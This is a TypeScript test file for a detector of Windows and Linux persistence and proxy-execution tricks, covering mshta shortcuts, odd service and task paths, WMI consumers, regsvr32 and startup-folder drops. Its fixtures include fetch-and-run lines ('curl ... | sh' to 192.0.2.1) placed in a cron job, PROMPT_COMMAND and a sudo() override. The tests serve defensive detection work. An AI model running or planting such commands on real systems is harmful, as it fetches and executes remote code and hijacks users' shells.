import { describe, expect, it } from "vitest";
import { anEvent } from "../../test/support/events.ts";
import { findingsOf } from "../../test/support/findings.ts";

it("sees what a document that a shortcut leads to is opened with, unless it only was open before", () => {
  const link = (path: string) => {
    const told = { target: "C:\\Users\\Public\\a.hta", arguments: undefined, startup: false, oddities: [] };
    return findingsOf([anEvent("shortcut", 0, { path, ...told })])[0];
  };
  expect(link("C:\\Users\\a\\Desktop\\x.lnk")).toMatchObject({
    binary: { name: "mshta.exe" },
    techniques: ["T1218.005"],
  });
  expect(link("C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\x.lnk")).toBeUndefined();
});

it("says nothing of a registered verb that runs only what is opened with it", () => {
  const verb = (commandLine: string) =>
    findingsOf([
      anEvent("runKey", 0, {
        path: "HKCR\\htafile\\shell\\open\\command\\(Default)",
        commandLine,
        dialect: "commandLine",
      }),
    ]);
  expect(verb('C:\\Windows\\System32\\mshta.exe "%1" %*')).toEqual([]);
  expect(verb("mshta.exe C:\\Users\\Public\\a.hta %1")).toHaveLength(1);
});

it("says in words what a command stands in", () => {
  const told = (origin: string) =>
    findingsOf([
      anEvent("commandExecution", 0, {
        text: "mshta C:\\Users\\Public\\a.hta",
        dialect: "commandLine",
        origin,
        name: "k7",
      }),
    ])
      .flatMap(({ evidence }) => evidence.map(({ text }) => text))
      .find((text) => text.startsWith("The command stands"));
  expect(told("wmiConsumer")).toBe(
    "The command stands in the WMI consumer k7, which runs it again without anybody asking.",
  );
  expect(told("scriptBlock")).toBeUndefined();
});

describe("what is set up and whose program nobody knows", () => {
  const service = (text: string) =>
    findingsOf([anEvent("commandExecution", 0, { text, dialect: "commandLine", origin: "service", name: "k7" })])[0];
  const task = (commandLine: string) =>
    findingsOf([anEvent("scheduledTask", 0, { commandLine, dialect: "commandLine", name: "k7" })])[0];
  it("is told of by where the program lies", () => {
    expect(service("C:\\Users\\Public\\k.exe -s")).toMatchObject({
      behaviour: "windows/sc/service",
      level: "high",
      runs: [{ value: "C:\\Users\\Public\\k.exe -s" }],
    });
    expect(service("\\\\127.0.0.1\\ADMIN$\\k.exe")?.behaviour).toBe("windows/sc/service-from-share");
    expect(task("C:\\Users\\Public\\k.exe")).toMatchObject({ techniques: ["T1053.005"], level: "high" });
    expect(task("%appdata%\\Vendor\\k.exe")).toMatchObject({ level: "low" });
  });
  it.each([
    '"C:\\Program Files\\Vendor\\svc.exe" --run',
    "\\SystemRoot\\System32\\drivers\\k.sys",
    "C:\\Windows\\System32\\svchost.exe -k netsvcs",
    "C:/Program Files\\Vendor\\bin\\k.sys",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{A}\\MpKslDrv.sys",
  ])("is not where installed software has it: %s", (line) => {
    expect(service(line)).toBeUndefined();
  });
});

it("weighs a task that is turned off less, and does not say that it runs", () => {
  const of = (trigger: string | undefined) => {
    const task = { name: "\\t", path: "a.xml", commandLine: "mshta.exe C:\\Users\\Public\\a.hta", trigger };
    return findingsOf([anEvent("scheduledTask", 0, { ...task, platform: "windows", dialect: "commandLine" })])[0];
  };
  const [on, off] = [of("TimeTrigger"), of("turned off")];
  expect(on!.score).toBeGreaterThan(off!.score);
  expect(off!.evidence.map(({ text }) => text)).toContain(
    "A scheduled task named \\t holds it, and is turned off: it runs once somebody turns it on.",
  );
});

it("takes quotes for a part of the code where the engine names its host", () => {
  const text =
    'powershell.exe -nop & {$p = "C:\\Users\\Public\\m.dll"\nStart-Process regsvr32.exe -ArgumentList "/s $p"}';
  const [finding] = findingsOf([
    anEvent("commandExecution", 0, { text, dialect: "commandLine", origin: "hostApplication" }),
  ]);
  expect(finding).toMatchObject({ binary: { name: "regsvr32.exe" }, runs: [{ value: "C:\\Users\\Public\\m.dll" }] });
});

it("resolves the command of a job with the variables that its file sets", () => {
  const job = (env: Readonly<Record<string, string>> | undefined) =>
    findingsOf([
      anEvent("scheduledTask", 0, { platform: "linux", commandLine: "curl $U | sh", dialect: "sh", trigger: "x", env }),
    ])[0];
  expect(JSON.stringify(job({ U: "http://192.0.2.1/a" }))).toContain("192.0.2.1");
  expect(JSON.stringify(job(undefined))).not.toContain("192.0.2.1");
});

it("sees what Windows will open at every logon as somebody puts it there", () => {
  const startup = "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup";
  const put = (path: string, action: "create" | "delete" = "create") =>
    findingsOf([anEvent("fileCreation", 0, { path, action })])[0];
  expect(put(`${startup}\\a.hta`)).toMatchObject({
    binary: { name: "mshta.exe" },
    runs: [{ value: `${startup}\\a.hta` }],
    evidence: expect.arrayContaining([expect.objectContaining({ id: "persistence" })]),
    dataComponents: ["File Creation"],
  });
  expect(put(`${startup}\\a.hta`, "delete")).toBeUndefined();
  expect(put(`${startup}\\desktop.ini`)).toBeUndefined();
  expect(put("C:\\Users\\a\\Desktop\\a.hta")).toBeUndefined();
});

it("sees what a shell that starts will run before each prompt, and in the place of a program", () => {
  const read = (name: string, text: string) =>
    findingsOf([
      anEvent("commandExecution", 0, { platform: "linux", text, dialect: "sh", origin: "startupScript", name }),
    ]).flatMap(({ runs }) => runs.map(({ value }) => value));
  const [address, fetched] = ["http://192.0.2.1/a", "curl -s http://192.0.2.1/a | sh"];
  expect(read(".bashrc", `PROMPT_COMMAND="${fetched}"`)).toContain(address);
  expect(read(".zshrc", `sudo() { ${fetched}; }`)).toContain(address);
  expect(read(".zshrc", `PROMPT_COMMAND='history -a'`)).toEqual([]);
});
